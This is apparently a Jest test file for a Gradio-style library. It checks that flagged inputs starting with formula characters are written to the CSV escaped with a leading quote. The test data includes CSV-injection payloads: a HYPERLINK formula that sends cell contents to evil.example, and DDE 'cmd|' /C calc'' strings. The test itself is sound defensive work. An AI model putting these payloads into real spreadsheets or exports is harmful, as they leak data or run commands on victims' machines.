/**
 * CSV injection through flagging (Gradio's formula-injection advisory class): a user flags an
 * Interface's run with inputs that a spreadsheet would read as formulas (`=`, `+`, `-`, `@`,
 * tab, carriage return, and the same after a comma). Through the real server — Gradio's client
 * calling the Flag endpoint, and a raw `/run` — every such cell lands in the CSV escaped with a
 * leading `'`, the flag option too (a Textbox's "-5" is text, escaped as Gradio does); plain
 * text stays as it is.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { Client } from "@gradio/client";
import * as vt from "vitrine";
import { postJson, serve } from "./helpers.js";

const FORMULAS = [
  "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "harmless,=1+1",
];

describe("CSV injection through flagging", () => {
  let app: vt.App;
  let url: string;
  let dir: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "vitrine-csv-injection-"));
    app = new vt.Interface({
      fn: (text: string) => text,
      inputs: vt.Textbox({ label: "text" }),
      outputs: vt.Textbox({ label: "echo" }),
      flagging_options: ["=cmd|' /C calc'!A0"],
      flagging_dir: dir,
      flagging_callback: new vt.CSVLogger({ verbose: false }),
    });
    url = await serve(app);
  });
  afterAll(() => app?.close());

  const rows = async () => (await vt.readFlagged(join(dir, "dataset1.csv")))!;

  it("escapes formula cells flagged by Gradio's client, the flag option included", async () => {
    const client = await Client.connect(url);
    for (const formula of FORMULAS) {
      const flagged = await client.predict("/Flag", [formula, formula]);
      expect((flagged.data as unknown[])[0]).toMatchObject({ __type__: "update", value: "Saved!" });
    }
    const written = (await rows()).slice(1);
    expect(written).toHaveLength(FORMULAS.length);
    for (const [i, formula] of FORMULAS.entries()) {
      // Read back, each cell is the value with a leading quote: a spreadsheet shows it as text.
      expect(written[i]!.slice(0, 3)).toEqual([`'${formula}`, `'${formula}`, "'=cmd|' /C calc'!A0"]);
    }
    expect((await client.predict("/predict", ["still here"])).data).toEqual(["still here"]);
    client.close();
  });

  it("escapes them when flagged by a raw HTTP call too (text that looks like a number included, as Gradio), and keeps plain text", async () => {
    const before = (await rows()).length;
    for (const [value, cell] of [
      ["=1+1", "'=1+1"],
      ["-5", "'-5"],
      ["@here", "'@here"],
      ["a plain note", "a plain note"],
    ] as const) {
      const res = await postJson(`${url}gradio_api/run/Flag`, { data: [value, "ok"] });
      expect(res.status).toBe(200);
      const row = (await rows()).at(-1)!;
      expect({ value, cell: row[0] }).toEqual({ value, cell });
    }
    expect((await rows()).length).toBe(before + 4);
    const res = await postJson(`${url}gradio_api/run/predict`, { data: ["next"] });
    expect(res.body.data).toEqual(["next"]);
  });
});
